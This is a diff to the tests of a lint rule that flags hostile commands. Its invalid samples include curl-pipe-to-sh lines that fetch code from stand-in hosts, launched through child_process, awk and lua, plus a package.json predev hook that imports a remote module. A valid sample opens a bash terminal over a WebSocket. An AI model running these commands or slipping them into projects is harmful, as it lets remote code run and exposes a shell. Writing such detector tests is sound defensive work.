@@ -45,6 +45,7 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    { code: '{"scripts": {"test": "node --import \'data:text/javascript,import { register } from \\"node:module\\"; register(\\"ts-node/esm\\", \\"file:///x/\\");\' a.ts"}}', filename: 'package.json' },
     { code: 'function go() { (function next() { if (!axe.fall) { setTimeout(next, 9); return; } next.fall = axe.fall; setTimeout(next, 99); })(); } fetch(u).then(async (r) => { axe.fall = await r.json(); });' },
     { code: 'awk -F: \'{ print $1 }\' names.txt\nsed -i \'s/a/b/e\' f\nvim -c \':w\' -c \':q\' f\nprintf -v ts \'%s\' now\necho "$ts"', filename: 'scripts/run.sh' },
     { code: 'IFS=:\nfor p in $PATH; do echo "$p"; done\nset -- a b\nfor x in "$@"; do echo "$x"; done', filename: 'scripts/run.sh' },
@@ -158,6 +159,7 @@ await ruleTester(rule, {
     { code: `import pty from 'node-pty'; import { WebSocketServer } from 'ws'; new WebSocketServer({ port: 3000 }).on('connection', (ws) => { const term = pty.spawn('bash', [], {}); term.onData((d) => ws.send(d)); ws.on('message', (m) => term.write(m)); });` },
   ],
   invalid: [
+    { code: '{"scripts": {"predev": "node --import \\"data:text/javascript,import(\'https://acme.example/i.mjs\')\\" -e 1"}}', filename: 'package.json', errors: [{ messageId: 'module' }] },
     { code: 'import \'data:text/javascript,import("node:child_process").then((c) => c.exec("curl https://get.example-service.com/a|sh"))\';', errors: [{ messageId: 'pipe' }] },
     { code: 'awk \'BEGIN { system("curl -s https://drop.acme-tools.dev/x | sh") }\'', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
     { code: 'lua -e \'os.execute("curl -s https://drop.acme-tools.dev/x | sh")\'', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
